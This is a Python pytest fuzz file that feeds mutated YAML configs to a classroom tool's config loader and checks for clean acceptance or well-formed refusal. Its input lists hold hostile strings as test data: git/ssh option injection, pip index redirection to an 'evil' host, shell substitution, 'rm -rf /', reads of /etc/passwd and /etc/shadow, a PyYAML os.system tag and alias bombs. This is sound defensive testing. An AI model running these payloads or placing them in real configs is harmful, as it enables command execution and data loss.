"""Fuzz: generated hostile configs through the real loader and validator.

Each run tries FIXED_CONFIGS configs from a fixed seed (the same every run)
and RANDOM_CONFIGS from a new seed, printed with every failure so it can be
replayed:

    CLASSTOOLS_FUZZ_SEED=1234 python -m pytest -q tests/unit/test_fuzz_config.py

The generator mutates the committed config with what an attacker or an
unlucky operator writes: option-injection sources and repos, requirement
strings with line breaks, control characters, values YAML 1.1 retypes
(1.10, on, 0123, 1:30, .inf, 2026-13-01), YAML bombs (aliases, merge keys),
deep nesting, thousands of unknown keys or values, files over the size cap,
non-UTF-8 bytes, wrong types, a FIFO or /dev/zero instead of a file, bad
environment overrides.  Every config must end in a Config or a ConfigError
whose lines are well-formed (file named; the key path, what was found and
what was expected, or a file-level reason), never in another exception, and
each refusal within REFUSAL_BOUND seconds.  An accepted config must hold no
hostile value.  A sample also goes through `doit list` as a subprocess.
`benchmarks/fuzz.py` runs the same generator for longer and prints figures.
"""

from __future__ import annotations

import json
import os
import random
import re
import shutil
import statistics
import time
from dataclasses import dataclass, field
from pathlib import Path

import yaml

from tasks.config.formats import FORMATS
from tasks.config.loader import BACKEND_ENV, DEP_FILE_ENV, Config, ConfigError, validate
from tasks.images.spec import requirements_file
from tests.unit.test_config_fuzz import _paths  # every key path of a document

REPO = Path(__file__).resolve().parents[2]
FILES = ("classroom.yaml", "courses.yaml", "data.yaml")
FIXED_SEED = 20261127
FIXED_CONFIGS = 700
RANDOM_CONFIGS = 300
REFUSAL_BOUND = 2.0  # seconds: the one timed bound the project allows (issue 10)
DOIT_SAMPLE = 6

HOSTILE_TEXT = [
    "--upload-pack=touch /tmp/owned;", "-oProxyCommand=touch /tmp/owned", "ext::sh -c touch% /tmp/owned",
    "--index-url=http://evil/simple", "-r /etc/passwd", "altair; python_version>'0'\r--index-url=http://e/s",
    "altair\x85--index-url=http://e/s", "altair\u2028-i http://e/s", 'altair; python_version > "0 --i x"',
    "altair @ https://evil.example/a.whl", "altair # x", "altair ${HOME}", "a\x00b", "a\nb", "a\tb",
    "\x1b[31mred", "a\u2029b", "\ufeffbom", "$(touch /tmp/owned)", "`id`", "; rm -rf /", "../../../etc/passwd",
    "/dev/zero", "/dev/stdin", "/proc/self/environ", "~nobody-here/x", "~", "{username}", "%s%n",
    "' OR 1=1 --", "a" * 300, "é" * 200, "😀", "", " ", "null", "gs://", "gs://../x", "gs://bucket//x",
    "file://", "file:///etc/shadow", "https://x.example/" + "a" * 5000, "http://[::1]/", "localhost:5000/../x",
    "https://github.com/example/intro.git", "git@github.com:org/repo.git", "-", "--", "x" * 256 + "/y",
    "/" + "/".join(["z" * 255] * 17), "config/datasets/sample-flights", ".doit", "config", "config/classroom.yaml/x",
]
# written unquoted: what YAML 1.1 types (or fails to), tags and alias syntax
RAW_SCALARS = [
    "1.10", "on", "off", "yes", "no", "0123", "0x1F", "0o17", "1_000", "1:30", "1:00:00", ".inf", "-.inf",
    ".nan", "2026-13-01", "2026-01-01", "2001-12-14t21:59:43.10-05:00", "9" * 5000, "1.0e+400", "-0", "~",
    "null", "true", "True", "!!binary aGVsbG8=", "!!binary ???", "!!python/object/apply:os.system ['id']",
    "!!set {a, b}", "!!omap [a: 1]", "!!int '12'", "!!float '1'", "!!str 1", "*undefined", "&anchor value",
    "!custom x", "''", "[]", "{}", "[[[[]]]]", "{a: {b: {c: {}}}}", "[a, [b, [c]]]", "-1", "65536", "1023",
    "4097", "0.0", "1e3", "18446744073709551616", "'quoted'", "\"\\u2028\"", "\"\\x85\"", "\"\\r\"",
]
NEAR_KEYS = ["profle", "instructor", "repos", "packges", "Name", "name ", "", "<<", "x" * 200, "ré", "a\u2028b"]


@dataclass
class Case:
    files: dict            # file name -> text, bytes, or one of the SPECIAL markers
    classes: set = field(default_factory=set)
    environment: dict = field(default_factory=dict)


SPECIAL = ("fifo", "dev-zero", "directory", "missing")


class Generator:
    def __init__(self, seed: int):
        self.rng = random.Random(seed)
        self.originals = {name: yaml.safe_load((REPO / "config" / name).read_text()) for name in FILES}

    def case(self) -> Case:
        rng = self.rng
        docs = json.loads(json.dumps(self.originals))
        case = Case(files={})
        raws: dict[str, str] = {}
        for _ in range(rng.randint(1, 4)):
            self._mutate(docs, case, raws)
        for name in FILES:
            text = yaml.safe_dump(docs[name], allow_unicode=rng.random() < 0.5, width=10**9,
                                  default_flow_style=rng.random() < 0.2)
            for token, raw in raws.items():
                text = text.replace(token, raw)
            case.files[name] = text
        if rng.random() < 0.25:
            self._damage_text(case)
        if rng.random() < 0.03:
            case.files[rng.choice(FILES)] = rng.choice(SPECIAL)
            case.classes.add("special-file")
        if rng.random() < 0.05:
            variable = rng.choice([DEP_FILE_ENV, BACKEND_ENV])
            case.environment[variable] = rng.choice(["config", "config/classroom.yaml/s.json", "mysql",
                                                     "x" * 300, "-x", "sqlite3", ".doit/ok.json"])
            case.classes.add("environment")
        return case

    def _mutate(self, docs, case, raws):
        rng = self.rng
        name = rng.choice(FILES)
        paths = list(_paths(docs[name]))
        path = rng.choice(paths)
        operation = rng.choice(["hostile", "hostile", "raw", "raw", "wrong-type", "delete", "unknown-key",
                                "add-item", "deep"])
        case.classes.add(operation)
        if operation == "add-item":
            self._add_item(docs, case, raws)
            return
        if not path:
            if operation == "unknown-key" and isinstance(docs[name], dict):
                docs[name][rng.choice(NEAR_KEYS)] = 1
            else:
                docs[name] = self._value(operation, raws)
            return
        parent = docs[name]
        for part in path[:-1]:
            parent = parent[part]
        last = path[-1]
        if operation == "delete":
            del parent[last]
        elif operation == "unknown-key" and isinstance(parent, dict):
            parent[rng.choice(NEAR_KEYS + [str(last) + "x"])] = self._value("hostile", raws)
        else:
            parent[last] = self._value(operation, raws)

    def _add_item(self, docs, case, raws):
        rng = self.rng
        hostile = lambda: self._value(rng.choice(["hostile", "raw"]), raws)  # noqa: E731
        if rng.random() < 0.5 and isinstance(docs["courses.yaml"], dict):
            course = {"name": "c" + str(rng.randint(0, 99)), "repo": hostile(), "instructors": [hostile()],
                      "packages": [hostile() for _ in range(rng.randint(0, 3))], "ref": hostile()}
            docs["courses.yaml"].setdefault("courses", [])
            if isinstance(docs["courses.yaml"]["courses"], list):
                docs["courses.yaml"]["courses"].append(course)
        elif isinstance(docs["data.yaml"], dict) and isinstance(docs["data.yaml"].get("datasets"), list):
            docs["data.yaml"]["datasets"].append({"name": "d" + str(rng.randint(0, 99)), "source": hostile()})

    def _value(self, operation, raws):
        rng = self.rng
        if operation == "raw":
            token = f"RAWTOKEN{len(raws)}X"
            raws[token] = rng.choice(RAW_SCALARS)
            return token
        if operation == "wrong-type":
            return rng.choice([None, True, 3, -1, 2.5, [], {}, ["a", 1], {"a": [1]}, 10**30])
        if operation == "deep":
            value = "x"
            for _ in range(rng.randint(5, 40)):
                value = [value] if rng.random() < 0.5 else {"k": value}
            return value
        text = rng.choice(HOSTILE_TEXT)
        if rng.random() < 0.2:  # splice a control character somewhere
            at = rng.randint(0, len(text))
            text = text[:at] + rng.choice("\x00\r\n\x85\u2028\x1b\x7f\t") + text[at:]
        return text

    def _damage_text(self, case):
        rng = self.rng
        name = rng.choice(FILES)
        text = case.files[name]
        kind = rng.choice(["laughs", "merge-bomb", "recursive-alias", "many-aliases", "too-many-keys",
                           "too-many-values", "over-cap", "huge-scalar", "not-utf8", "truncate", "splice",
                           "bom", "tabs", "duplicate-key", "two-documents", "empty", "nesting"])
        case.classes.add(kind)
        if kind == "laughs":
            text = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
                f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8)) + text
        elif kind == "merge-bomb":
            text = "a0: &a0 {k0: 1, k1: 2}\n" + "".join(
                f"a{i}: &a{i}\n  <<: [{', '.join([f'*a{i - 1}'] * 8)}]\n  k{i}: 1\n" for i in range(1, 14)) + text
        elif kind == "recursive-alias":
            text += "loop: &loop [*loop]\n"
        elif kind == "many-aliases":
            text += "x: &x a\ny: [" + ", ".join(["*x"] * rng.randint(90, 300)) + "]\n"
        elif kind == "too-many-keys":
            text += "".join(f"key{i}: {i}\n" for i in range(rng.choice([500, 3000, 8000])))
        elif kind == "too-many-values":
            text += "many: [" + ", ".join("v" for _ in range(rng.choice([5000, 12000]))) + "]\n"
        elif kind == "over-cap":
            text += "#" * 300_000 + "\n"
        elif kind == "huge-scalar":
            text += "huge: " + "h" * rng.choice([10_000, 200_000]) + "\n"
        elif kind == "not-utf8":
            data = text.encode()
            at = rng.randint(0, len(data))
            case.files[name] = data[:at] + rng.choice([b"\xff", b"\xc3", b"\xed\xa0\x80", b"\x00"]) + data[at:]
            return
        elif kind == "truncate":
            text = text[:rng.randint(0, len(text))]
        elif kind == "splice":
            at = rng.randint(0, len(text))
            text = text[:at] + rng.choice([":", "- ", "\t", "{", "'", "&a", "*a", "\n  x", "<<: 1\n", "? ", "%"]) + text[at:]
        elif kind == "bom":
            text = "\ufeff" + text
        elif kind == "tabs":
            text = text.replace("  ", "\t", 1)
        elif kind == "duplicate-key":
            text += text.splitlines()[0] + "\n" if text.strip() else ""
        elif kind == "two-documents":
            text += "---\nx: 1\n"
        elif kind == "empty":
            text = ""
        elif kind == "nesting":
            text += "deep: " + "[" * rng.choice([40, 900, 5000]) + "]" * 5000 + "\n"
        case.files[name] = text


def write_case(case: Case, config_dir: Path):
    for name in FILES:
        path = config_dir / name
        if path.is_symlink() or path.is_file() or path.exists() and not path.is_dir():
            path.unlink()
        elif path.is_dir():
            shutil.rmtree(path)
        content = case.files[name]
        if content == "fifo":
            os.mkfifo(path)
        elif content == "dev-zero":
            path.symlink_to("/dev/zero")
        elif content == "directory":
            path.mkdir()
        elif content == "missing":
            pass
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8", errors="surrogatepass")


_NAME, _INDEX = r"[\w-]+", r"\[(?:\d+|'.*?'|\".*?\")\]"  # validation.key_path: names, [0], ['odd key']
_BODY = re.compile(
    rf"(?:(?:{_NAME}|{_INDEX})(?:\.{_NAME}|{_INDEX})*: )?found .+; expected .+"
    r"|YAML syntax error(?: at line \d+(?:, column \d+)?)?: .+"
    r"|is not UTF-8 text \((?:byte|character) \d+\)|is a directory, expected a YAML file|cannot be read: .+")


def malformed_lines(error: ConfigError, display: str) -> list[str]:
    """The lines of a refusal that do not name their file (and key) as the contract says."""
    bad = []
    for line in error.messages:
        if not line.isprintable():
            bad.append(line)
            continue
        if line.startswith("environment "):
            if not re.fullmatch(r"environment [A-Z_]+: found .+; expected .+", line):
                bad.append(line)
            continue
        match = re.fullmatch(rf"{re.escape(display)}/(classroom|courses|data)\.yaml(?::\d+)?: (.+)", line)
        if not match or not _BODY.fullmatch(match.group(2)):
            bad.append(line)
    if error.count < len(error.messages) - len(FILES) or not error.messages:
        bad.append(f"count {error.count} for {len(error.messages)} lines")
    return bad


def hostile_values_in(config: Config) -> list[str]:
    """What an accepted config must never contain."""
    found = []

    def walk(value, where):
        if isinstance(value, dict):
            for key, item in value.items():
                walk(key, where + "/key")
                walk(item, f"{where}.{key}")
        elif isinstance(value, list):
            for i, item in enumerate(value):
                walk(item, f"{where}[{i}]")
        elif isinstance(value, str) and not value.isprintable():
            found.append(f"{where}: {value!r}")
        elif isinstance(value, float) and value != value or value in (float("inf"), float("-inf")):
            found.append(f"{where}: {value!r}")

    walk({"classroom": config.classroom, "courses": config.courses, "datasets": config.datasets}, "")
    for course in config.courses:
        if course["repo"].startswith("-") or not FORMATS["git_url"].check(course["repo"]):
            found.append(f"repo {course['repo']!r}")
    for dataset in config.datasets:
        if dataset["source"].startswith("-"):
            found.append(f"source {dataset['source']!r}")
    try:
        requirements_file({p for course in config.courses for p in course["packages"]})
    except ValueError as exc:
        found.append(str(exc))
    return found


@dataclass
class Outcome:
    tried: int = 0
    refused: int = 0
    accepted: int = 0
    times: list = field(default_factory=list)  # seconds per refusal
    failures: list = field(default_factory=list)
    classes: dict = field(default_factory=dict)
    examples: list = field(default_factory=list)  # (case, lines) kept for the doit sample

    def figures(self) -> str:
        times = sorted(self.times) or [0.0]
        return (f"{self.tried} configs, {self.refused} refused, {self.accepted} accepted, "
                f"{len(self.failures)} failures; refusal time median {statistics.median(times) * 1000:.1f} ms, "
                f"max {times[-1] * 1000:.0f} ms")


def run(seed: int, count: int, work_dir: Path, outcome: Outcome | None = None, keep_failures: Path | None = None):
    """Generate and check `count` configs; failures are recorded, not raised."""
    outcome = outcome or Outcome()
    generator = Generator(seed)
    config_dir = work_dir / "config"
    if not config_dir.exists():
        shutil.copytree(REPO / "config", config_dir)
    display = str(config_dir)
    for index in range(count):
        case = generator.case()
        write_case(case, config_dir)
        saved = {name: os.environ.get(name) for name in (DEP_FILE_ENV, BACKEND_ENV)}
        os.environ.update(case.environment)
        for name in set(saved) - set(case.environment):
            os.environ.pop(name, None)
        started = time.monotonic()
        problem = None
        try:
            config = validate(config_dir)
        except ConfigError as error:
            elapsed = time.monotonic() - started
            outcome.refused += 1
            outcome.times.append(elapsed)
            bad = malformed_lines(error, display)
            if bad:
                problem = f"malformed refusal lines: {bad[:3]}"
            elif elapsed > REFUSAL_BOUND:
                problem = f"refusal took {elapsed:.2f}s (bound {REFUSAL_BOUND}s)"
            elif len(outcome.examples) < 200:
                outcome.examples.append((case, error.messages))
        except BaseException as exc:  # noqa: B036 - a fuzz run reports every way it can fail
            problem = f"{type(exc).__name__}: {str(exc)[:300]}"
        else:
            outcome.accepted += 1
            hostile = hostile_values_in(config)
            if hostile:
                problem = f"accepted hostile values: {hostile[:3]}"
        finally:
            for name, value in saved.items():
                if value is None:
                    os.environ.pop(name, None)
                else:
                    os.environ[name] = value
        outcome.tried += 1
        for name in case.classes:
            outcome.classes[name] = outcome.classes.get(name, 0) + 1
        if problem:
            outcome.failures.append(f"seed {seed} config #{index} ({', '.join(sorted(case.classes))}): {problem}")
            if keep_failures is not None:
                kept = keep_failures / f"seed{seed}-{index}"
                shutil.copytree(config_dir, kept, symlinks=True, ignore=lambda d, names: [
                    n for n in names if not (Path(d) / n).is_file() or (Path(d) / n).is_symlink()])
    return outcome


def test_generated_configs_are_refused_cleanly_or_accepted_clean(tmp_path):
    random_seed = int(os.environ.get("CLASSTOOLS_FUZZ_SEED") or random.SystemRandom().randrange(2**32))
    outcome = Outcome()
    run(FIXED_SEED, FIXED_CONFIGS, tmp_path / "fixed", outcome)
    run(random_seed, RANDOM_CONFIGS, tmp_path / "random", outcome)

    print(f"\nfuzz (seeds {FIXED_SEED} and {random_seed}): {outcome.figures()}")
    assert not outcome.failures, (f"replay with CLASSTOOLS_FUZZ_SEED={random_seed} (fixed seed {FIXED_SEED}):\n"
                                  + "\n".join(outcome.failures[:20]))
    assert outcome.tried >= 1000 and outcome.refused and outcome.accepted
    # the generator still reaches the classes the docstring promises
    for name in ("hostile", "raw", "wrong-type", "unknown-key", "deep", "laughs", "merge-bomb", "not-utf8",
                 "too-many-keys", "over-cap", "special-file", "environment"):
        assert outcome.classes.get(name), f"no config of class {name!r} was generated"


def test_a_sample_goes_through_doit_with_the_same_lines(project, tmp_path):
    outcome = run(FIXED_SEED, 120, tmp_path / "in-process")
    display = str(tmp_path / "in-process" / "config")
    picked, seen = [], set()
    for case, lines in outcome.examples:  # refusals of different kinds
        key = frozenset(case.classes)
        if key not in seen and not case.environment and not any(c in SPECIAL for c in case.files.values()):
            seen.add(key)
            picked.append((case, lines))
        if len(picked) == DOIT_SAMPLE:
            break
    assert len(picked) == DOIT_SAMPLE

    for case, lines in picked:
        write_case(case, project.config)
        result = project.doit("list")
        assert result.returncode == 3, result.stderr
        assert "Traceback" not in result.stdout + result.stderr
        assert result.stderr.splitlines()[1:] == [line.replace(display, "config") for line in lines]
        assert not project.dep_file.exists() and not (project.root / ".classroom").exists()
